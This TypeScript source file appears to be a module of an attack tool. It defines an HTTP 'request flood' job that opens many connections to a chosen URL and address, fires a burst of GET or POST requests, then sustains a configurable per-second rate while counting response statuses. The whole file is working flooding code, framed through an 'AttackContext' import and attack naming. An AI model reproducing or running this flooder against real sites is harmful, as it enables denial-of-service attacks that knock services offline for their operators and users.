import { pause } from '@waggle/running/waiting';
import { z } from 'zod';
import { type AttackContext } from './attack-context';
import { HttpClient } from './http-client';

export const requestFloodJob = z.object({
  url: z.string(),
  path: z.string(),
  /** The body of a POST request; undefined for a GET request. */
  body: z.string().optional(),
  address: z.string(),
  connections: z.number().int().positive(),
  /** Requests sent as fast as the connections take them, and then in each second. */
  burst: z.number().int().positive(),
  perSecond: z.number().positive(),
});
export type RequestFloodJob = z.infer<typeof requestFloodJob>;

/** Repeats a request, and reads the responses. */
export async function floodWithRequests(
  { url, path, body, address, connections, burst, perSecond }: RequestFloodJob,
  { signal, rate, count }: AttackContext,
): Promise<void> {
  const http = new HttpClient(url, address, connections);
  const send = async (): Promise<void> => {
    count('requests');
    try {
      const { status } = await http.send(path, body === undefined ? {} : { method: 'POST', body });
      count(`status ${status}`);
    } catch {
      if (!signal.aborted) count('failed requests');
    }
  };
  for (let first = 0; first < burst; first += 1) void send();
  while (await pause(1_000 / (perSecond * rate), signal)) void send();
  await http.close();
}
